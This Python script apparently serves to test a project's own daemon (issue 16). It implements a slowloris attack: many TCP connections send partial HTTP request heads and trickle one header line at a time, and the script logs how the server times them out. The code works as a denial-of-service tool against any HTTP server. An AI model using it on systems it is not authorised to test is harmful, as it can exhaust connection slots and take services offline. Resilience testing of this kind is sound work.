#!/usr/bin/env python3
"""Slow request heads against the daemon's apt front end (issue 16).

Usage: slowloris.py HOST PORT N SECONDS PATH OUT.json

Keeps N TCP connections to HOST:PORT. Each sends half a request head
("GET PATH HTTP/1.1", a Host line, no blank line), then one more header
line every 10 s, and never finishes the head. A connection the server
closes (or a failed connect) is opened again one second later. Everything
stops after SECONDS. One thread, one selector: no busy loop (the loop
sleeps in select() until the next event, at most 0.5 s).

OUT.json gets: connections open on average (sampled every second), min and
max, connects made, connect failures, closes by the server, how long the
server kept the slow connections it closed (average, max), the oldest one
still open at the end, and the first response lines the server sent (e.g.
"HTTP/1.1 408 ...").
"""

import errno
import json
import selectors
import socket
import sys
import time

LINE_EVERY = 10.0
RECONNECT_AFTER = 1.0


class Conn:
    __slots__ = ("sock", "state", "next_at", "opened", "lines", "got")

    def __init__(self):
        self.sock = None
        self.state = "idle"  # idle -> connecting -> open -> idle
        self.next_at = 0.0  # idle: reconnect time; open: next header line
        self.opened = 0.0
        self.lines = 0
        self.got = b""


def main():
    host, port, n, secs, path, out = sys.argv[1:7]
    port, n, secs = int(port), int(n), float(secs)
    sel = selectors.DefaultSelector()
    conns = [Conn() for _ in range(n)]
    t0 = time.monotonic()
    deadline = t0 + secs
    st = {
        "n": n,
        "seconds": secs,
        "connects": 0,
        "connect_failures": 0,
        "server_closes": 0,
        "send_errors": 0,
        "header_lines_sent": 0,
        "lifetimes": [],
        "responses": {},
        "open_samples": [],
    }
    head = f"GET {path} HTTP/1.1\r\nHost: {host}:{port}\r\n".encode()

    def drop(c, now, by_server):
        if c.sock is not None:
            try:
                sel.unregister(c.sock)
            except (KeyError, ValueError):
                pass
            c.sock.close()
        if c.state == "open":
            st["lifetimes"].append(now - c.opened)
            if by_server:
                st["server_closes"] += 1
            if c.got:
                line = c.got.split(b"\r\n", 1)[0].decode("latin-1")[:80]
                st["responses"][line] = st["responses"].get(line, 0) + 1
        c.sock, c.state, c.got, c.lines = None, "idle", b"", 0
        c.next_at = now + RECONNECT_AFTER

    def connect(c, now):
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.setblocking(False)
        rc = s.connect_ex((host, port))
        c.sock = s
        if rc not in (0, errno.EINPROGRESS):
            st["connect_failures"] += 1
            c.state = "connecting"
            drop(c, now, False)
            return
        c.state = "connecting"
        c.next_at = now + 10.0  # connect timeout
        sel.register(s, selectors.EVENT_WRITE, c)

    next_sample = t0 + 1.0
    while True:
        now = time.monotonic()
        if now >= deadline:
            break
        for c in conns:
            if c.state == "idle" and c.next_at <= now:
                connect(c, now)
            elif c.state == "connecting" and c.next_at <= now:
                st["connect_failures"] += 1
                drop(c, now, False)
            elif c.state == "open" and c.next_at <= now:
                try:
                    c.sock.send(f"X-Slow-{c.lines}: {'a' * 16}\r\n".encode())
                    c.lines += 1
                    st["header_lines_sent"] += 1
                    c.next_at = now + LINE_EVERY
                except OSError:
                    st["send_errors"] += 1
                    drop(c, now, True)
        if now >= next_sample:
            st["open_samples"].append(sum(1 for c in conns if c.state == "open"))
            next_sample += 1.0
        wake = min([deadline, next_sample] + [c.next_at for c in conns if c.state != "idle" or c.next_at > now])
        timeout = max(0.01, min(0.5, wake - time.monotonic()))
        for key, ev in sel.select(timeout):
            c = key.data
            now = time.monotonic()
            if c.state == "connecting":
                err = c.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    st["connect_failures"] += 1
                    drop(c, now, False)
                    continue
                try:
                    c.sock.send(head)
                except OSError:
                    st["connect_failures"] += 1
                    drop(c, now, False)
                    continue
                st["connects"] += 1
                c.state, c.opened, c.next_at = "open", now, now + LINE_EVERY
                sel.modify(c.sock, selectors.EVENT_READ, c)
            elif c.state == "open":
                try:
                    data = c.sock.recv(4096)
                except OSError:
                    data = b""
                if data:
                    if len(c.got) < 256:
                        c.got += data[:256]
                else:
                    drop(c, now, True)
    now = time.monotonic()
    still_open = sum(1 for c in conns if c.state == "open")
    oldest = max([now - c.opened for c in conns if c.state == "open"] or [0.0])
    for c in conns:
        if c.sock is not None:
            try:
                sel.unregister(c.sock)
            except (KeyError, ValueError):
                pass
            c.sock.close()
    samples = st.pop("open_samples") or [0]
    lifetimes = st.pop("lifetimes")
    st["open_avg"] = round(sum(samples) / len(samples), 1)
    st["open_min"] = min(samples)
    st["open_max"] = max(samples)
    st["open_at_end"] = still_open
    # How long the server kept the connections it closed, and the oldest
    # one still open at the end.
    st["closed_lifetime_avg_s"] = round(sum(lifetimes) / len(lifetimes), 1) if lifetimes else None
    st["closed_lifetime_max_s"] = round(max(lifetimes), 1) if lifetimes else None
    st["oldest_open_at_end_s"] = round(oldest, 1)
    with open(out, "w") as f:
        json.dump(st, f)


if __name__ == "__main__":
    main()
